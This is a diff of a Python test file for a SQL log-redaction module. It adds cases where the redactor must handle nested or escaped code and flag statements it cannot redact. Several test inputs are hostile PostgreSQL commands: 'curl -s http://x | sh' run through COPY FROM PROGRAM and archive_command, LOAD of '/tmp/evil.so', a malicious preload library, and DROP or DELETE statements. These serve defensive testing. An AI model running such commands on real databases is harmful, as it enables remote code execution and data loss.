@@ -85,6 +85,15 @@ from bastion.sqlparse import Redacted, redact, redaction
         ),
         # comments in code are free text too
         ("DO $$BEGIN -- ssn 123\nNULL; END$$", "DO $$BEGIN /* */\nNULL; END$$"),
+        # code in code: a DO run by EXECUTE, a function call spelled with U& escapes
+        (
+            "DO $$BEGIN EXECUTE 'DO ''BEGIN EXECUTE ''''DROP TABLE t''''; END'''; END$$",
+            "DO $q1$BEGIN EXECUTE 'DO $$BEGIN EXECUTE ''DROP TABLE t''; END$$'; END$q1$",
+        ),
+        (
+            "SELECT U&\"query\\005fto\\005fxml\"('DELETE FROM t', true, true, '')",
+            'SELECT U&"query\\005fto\\005fxml"($$DELETE FROM t$$, $1, $2, $3)',
+        ),
         # no code: as before
         (
             "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f('a')",
@@ -121,6 +130,14 @@ def test_code_is_logged_with_only_its_literals_redacted(sql: str, expected: str)
         ("SELECT query_to_xml('SELECT 1' || 'x', true, true, '')", "not written"),
         ("COPY t FROM PROGRAM 'curl -s http://x | sh'", "shell command"),
         ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'", "does not parse"),
+        (
+            "SELECT query_to_xml(query => 'DELETE FROM t', nulls => true, tableforest => true,"
+            " targetns => '')",
+            "named arguments",
+        ),
+        ("ALTER SYSTEM SET archive_command = 'curl -s http://x | sh'", "sets archive_command"),
+        ("ALTER ROLE bob SET session_preload_libraries = 'evil'", "session_preload_libraries"),
+        ("LOAD '/tmp/evil.so'", "LOAD loads a library"),
     ],
 )
 def test_code_that_cannot_be_redacted_keeps_the_statement_whole_and_flagged(
